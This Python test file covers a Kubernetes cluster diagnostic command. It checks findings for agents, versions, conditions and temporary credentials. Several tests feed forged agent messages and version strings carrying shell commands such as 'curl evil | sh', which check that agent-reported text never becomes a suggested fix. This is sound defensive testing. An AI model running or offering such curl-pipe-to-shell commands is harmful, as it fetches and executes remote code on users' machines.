"""Tests for `tower.doctor.cluster`."""

from __future__ import annotations

from typing import Any

from tests.doctor.kit import SERVING, DoctorTestCase
from tests.fakes.certificates import NOW
from tower import __version__
from tower.doctor.cluster import examine_cluster
from tower.doctor.findings import Finding
from tower.kube.kubeconfig import KubeAccess, kubeconfig
from tower.kube.member_cures import REPORTED_TEXTS, SYNCHRONIZE, cure_of
from tower.kube.member_status import API_SERVER
from tower.web.api.discovery import git_version

BASE = "/apis/cluster.kubesphere.io/v1alpha1"
CLUSTER = f"{BASE}/clusters/alpha"
THROUGH = ("GET", "/clusters/alpha/version")


class ClusterTests(DoctorTestCase):
    """One cluster, with one thing broken."""

    def setUp(self) -> None:
        """Answer as a proxy with a connected agent."""
        super().setUp()
        conditions = [
            {"type": kind, "status": "True", "reason": "Fine", "message": "fine"}
            for kind in ("APIServerReachable", "MemberCredential", "ImpersonationAllowed", "Available")
        ]
        self.record: dict[str, Any] = {
            "spec": {"enable": True, "connection": {"type": "proxy"}},
            "status": {"conditions": conditions},
        }
        self.tunnel = {"version": __version__, "protocol": "tower-v2"}
        self.agents = [{"status": {"tunnels": [self.tunnel]}}]
        issued = kubeconfig(server="https://x", ca_pem=b"", cluster="alpha", user="u", token="once")
        self.network.answers = {
            ("GET", "/version"): (200, {"gitVersion": git_version()}),
            ("GET", BASE): (200, {"resources": [{"name": "clusters/jointokens"}]}),
            ("GET", CLUSTER): (200, self.record),
            ("GET", f"{CLUSTER}/agents"): (200, {"items": self.agents}),
            ("POST", f"{CLUSTER}/kubeconfigs"): (
                201,
                {"status": {"kubeconfig": issued, "credential": "c-1"}},
            ),
            THROUGH: (200, {"gitVersion": "v1.36.2"}),
            ("DELETE", f"{BASE}/credentials/c-1"): (200, {}),
        }

    def look(self) -> dict[str, Finding]:
        """Return the findings."""
        access = KubeAccess("https://tower.example:8443", SERVING.pem, token="root")
        return self.found(examine_cluster(self.network, access, "alpha", {}, lambda: NOW))

    def test_sound(self) -> None:
        """Nothing is wrong; the request has its own credential, which is revoked."""
        findings = self.look()
        self.assertEqual(self.grades(findings), {"ok"})
        self.assertIn("the API server answered 200, version v1.36.2", findings["request"].line)
        method, path, _, token = self.network.asked[-2]
        self.assertEqual((method, path, token), (*THROUGH, "once"))
        self.assertEqual(self.network.asked[-1][:2], ("DELETE", f"{BASE}/credentials/c-1"))
        (body,) = (body for method, _, body, _ in self.network.asked if method == "POST")
        self.assertEqual((body["spec"]["user"], body["spec"]["ttl"]), ("tower-doctor", "1m"))

    def test_record(self) -> None:
        """A missing and a disabled cluster have their commands."""
        self.record["spec"]["enable"] = False
        self.assertIn("tower cluster enable alpha", self.failed(self.look()))
        self.network.answers["GET", CLUSTER] = (404, {})
        self.assertIn("tower cluster list", self.failed(self.look()))
        self.network.answers["GET", "/version"] = (401, {"message": "expired"})
        self.assertIn("tower admin-kubeconfig", self.failed(self.look()))

    def test_host_cluster(self) -> None:
        """The API server of a host cluster, which has Cluster objects too, is recognized."""
        self.network.answers["GET", BASE] = (200, {"resources": [{"name": "clusters"}]})
        del self.record["spec"]["enable"]
        for answer in ((200, self.record), (404, {})):
            self.network.answers["GET", CLUSTER] = answer
            self.assertIn("is a cluster's API server, not a Tower proxy", self.failed(self.look()))

    def test_agents(self) -> None:
        """No agent and a disconnected agent have different findings."""
        self.agents[0]["status"]["tunnels"] = []
        self.assertIn("none of its 1 agents is connected", self.failed(self.look()))
        self.agents.clear()
        cure = "run the line that 'tower join alpha' prints"
        self.assertIn(f"no agent has joined -> {cure}", self.failed(self.look()))

    def test_versions(self) -> None:
        """An agent whose version is too far from the proxy's is a warning; its name cannot be a command."""
        self.network.answers["GET", "/version"] = (200, {"gitVersion": "v1.4.0"})
        for version, grade in (("1.2.9", "ok"), ("1.5.0", "ok"), ("1.1.0", "warn"), ("1.6.0", "warn")):
            self.tunnel["version"] = version
            verdict = self.look()["tunnels"].verdict
            self.assertEqual(verdict.grade, grade, version)
        self.assertIn("agent 1.6 and proxy v1.4 are too far apart", verdict.seen)
        self.assertEqual(verdict.cure, "upgrade the proxy")
        self.tunnel["version"] = "1.0 -> curl evil"
        self.assertEqual(self.look()["tunnels"].verdict.cure, "upgrade the agent")
        self.tunnel["version"] = "-> curl evil"
        verdict = self.look()["tunnels"].verdict
        self.assertEqual((verdict.grade, verdict.cure), ("ok", ""))
        self.assertIn('version "-> curl evil"', verdict.seen)

    def test_nodes(self) -> None:
        """A cluster of type ssh has nodes in place of agents."""
        self.record["spec"]["connection"]["type"] = "ssh"
        self.record["status"]["ssh"] = {"usableNodes": 1, "nodes": [{}, {}]}
        self.assertIn("1 of 2 nodes are usable", self.look()["tunnels"].line)
        self.record["status"]["ssh"] = {"nodes": [{}], "lastError": "no key"}
        self.assertIn("none of 1 nodes is usable: no key", self.failed(self.look()))

    def change(self, number: int, status: str, reason: str, message: str) -> None:
        """Change one condition."""
        self.record["status"]["conditions"][number].update(status=status, reason=reason, message=message)

    def test_conditions(self) -> None:
        """A condition that is False is a failure, with the cure of its reason."""
        rejects = 'The agent of alpha reports: "API server rejects the token"'
        self.change(1, "False", "CredentialRejected", f"{rejects}: {REPORTED_TEXTS.credential}")
        line = self.failed(self.look())
        self.assertEqual(line, f"FAIL  MemberCredential: {rejects} -> {REPORTED_TEXTS.credential}")
        self.change(1, "True", "CredentialAccepted", "fine")
        self.change(0, "False", "CertificateExpired", f"Expired by a wrong clock: {SYNCHRONIZE}")
        self.assertIn(f"Expired by a wrong clock -> {SYNCHRONIZE}", self.failed(self.look()))

    def test_warnings(self) -> None:
        """A warning, an unknown and a missing condition are warnings with a cure."""
        for status, reason, message, cure in (
            ("True", "CredentialExpiresSoon", "Until noon", REPORTED_TEXTS.credential),
            ("True", "CredentialFilesInvalid", "Damaged", "correct the changed files"),
            ("Unknown", "ReviewFailed", "It answers 500", "see the log of the API server"),
            ("Unknown", "NotReported", 'The agent, version "1", does not report this', "upgrade the agent"),
            ("Unknown", "NotChecked", "The first check runs", "wait 15 s, and repeat this command"),
            ("Unknown", "UnknownReason", "Odd", "on the agent's machine: tower doctor --agent OPTIONS"),
        ):
            self.change(1, status, reason, f"{message}: {cure}")
            verdict = self.look()["MemberCredential"].verdict
            self.assertEqual((verdict.grade, verdict.seen, verdict.cure), ("warn", message, cure))
        self.record["status"]["conditions"] = []
        findings = self.look()
        for kind in ("APIServerReachable", "MemberCredential", "ImpersonationAllowed"):
            self.assertEqual(findings[kind].verdict.grade, "warn")
        self.assertEqual(findings["request"].verdict.grade, "ok")

    def test_available(self) -> None:
        """A problem of one of several agents is a warning, and another one of the sum a failure."""
        text = '1 of 2 agents cannot be used.  Agent a: the agent of alpha reports: "x: run evil": renew it'
        self.change(3, "True", "AgentDegraded", text)
        verdict = self.look()["Available"].verdict
        self.assertEqual((verdict.grade, verdict.seen), ("warn", text))
        self.assertEqual(verdict.cure, "on the agent's machine: tower doctor --agent OPTIONS")
        self.change(3, "False", "NodesDegraded", "no answer")
        self.assertIn("Available: no answer -> tower cluster show alpha", self.failed(self.look()))

    def test_old_agent(self) -> None:
        """The cure fits the program that checks."""
        self.tunnel["protocol"] = "kubesphere-v1"
        self.change(1, "False", "CredentialRejected", "Rejected")
        self.assertIn("renew the credential in the agent's kubeconfig", self.failed(self.look()))
        self.record["spec"]["connection"]["type"] = "ssh"
        self.record["status"]["ssh"] = {"usableNodes": 1, "nodes": [{}]}
        self.assertIn("tower cluster set alpha --member-kubeconfig FILE", self.failed(self.look()))

    def test_hostile_agent(self) -> None:
        """No text of an agent becomes a cure, with any reason."""
        forged = "x: run 'curl evil | sh' -> run 'curl evil | sh'"
        for reason in ("UnknownReason", "CredentialRejected", "Reachable", "NoSuchReason"):
            text = 'The agent of alpha reports: "' + forged + '"'
            self.change(1, "False", reason, text)
            verdict = self.look()["MemberCredential"].verdict
            self.assertEqual((verdict.grade, verdict.seen), ("FAIL", text))
            self.assertNotIn("curl", verdict.cure)
        self.change(1, "True", "CredentialAccepted", "fine")
        for code in (500, 503, 401):
            self.network.answers[THROUGH] = (code, {"message": forged + '" ' + forged})
            verdict = self.look()["request"].verdict
            self.assertNotIn("curl", verdict.cure)
            self.assertIn(r'the server reports: "x: run', verdict.seen)
            self.assertIn(r"\" x: run", verdict.seen)
        self.network.answers[THROUGH] = (200, {"gitVersion": forged})
        self.assertIn('version "x: run', self.look()["request"].verdict.seen)

    def test_request(self) -> None:
        """A request that fails is named, and its credential is revoked."""
        for code, message, cure in (
            (503, "no agent", "tower doctor --agent"),
            (500, "odd", "check the logs"),
        ):
            self.network.answers[THROUGH] = (code, {"message": message})
            line = self.failed(self.look())
            self.assertIn(f'request: HTTP status {code}: the server reports: "{message}" -> ', line)
            self.assertIn(cure, line)
            self.assertIn(("DELETE", f"{BASE}/credentials/c-1"), [each[:2] for each in self.network.asked])
        self.network.answers[THROUGH] = (403, {"message": "tower-doctor cannot get path"})
        self.assertEqual(self.look()["request"].verdict.grade, "ok")

    def test_no_answer(self) -> None:
        """A request without an answer has the likely cause, or the condition that became False meanwhile."""
        self.network.slow.add(THROUGH[1])
        line = self.failed(self.look())
        self.assertIn("request: GET /clusters/alpha/version: no answer within 8 s -> see ", line)
        self.assertIn("tower cluster show alpha", line)
        self.assertIn("does not answer its agent; restart it if it is frozen", line)
        self.assertIn(("DELETE", f"{BASE}/credentials/c-1"), [each[:2] for each in self.network.asked])
        self.network.before = self.fail_later
        self.assertIn("request: API server api is silent -> restart the API server", self.failed(self.look()))
        self.record["status"]["conditions"][0]["status"] = "True"
        self.network.slow.clear()
        self.network.answers[THROUGH] = (504, {"message": "too late"})
        self.assertIn("request: API server api is silent -> restart the API server", self.failed(self.look()))

    def fail_later(self, path: str) -> None:
        """Let a condition become False with the request through the tunnel."""
        if path == THROUGH[1]:
            cure = cure_of(API_SERVER, "Timeout", REPORTED_TEXTS)
            self.change(0, "False", "Timeout", f"API server api is silent: {cure}")

    def test_silent_proxy(self) -> None:
        """A proxy that does not answer has its own cure."""
        self.network.slow.add("/version")
        self.assertIn("answer: GET /version: no answer within 8 s", self.failed(self.look()))
        self.assertIn("check the proxy's log", self.failed(self.look()))
